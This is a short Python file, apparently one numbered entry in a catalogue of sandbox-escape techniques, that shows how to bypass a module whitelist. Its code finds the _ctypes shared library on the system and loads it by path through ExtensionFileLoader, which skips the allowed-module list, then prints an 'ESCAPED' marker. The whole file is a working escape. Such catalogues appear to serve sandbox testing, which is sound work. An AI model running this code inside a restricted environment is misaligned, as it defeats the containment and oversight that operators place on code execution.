# escape: 084
# technique: ExtensionFileLoader loads a .so by path, whatever the module whitelist says
# family: import
# goal: module
# first-seen: HackTricks (load native modules)
import sys, importlib.machinery as M, importlib.util as U
import glob
p = [f for d in sys.path for f in glob.glob(d + '/_ctypes.*so') + glob.glob(d + '/_ctypes_test.*so')]
import sysconfig
p = p or glob.glob(sysconfig.get_config_var('DESTSHARED') + '/_ctypes*.so')
n = p[0].rsplit('/', 1)[1].split('.')[0]
m = U.module_from_spec(U.spec_from_file_location(n, p[0], loader=M.ExtensionFileLoader(n, p[0])))
print('ESCAPED:' + m.__name__ + ' ' + p[0])
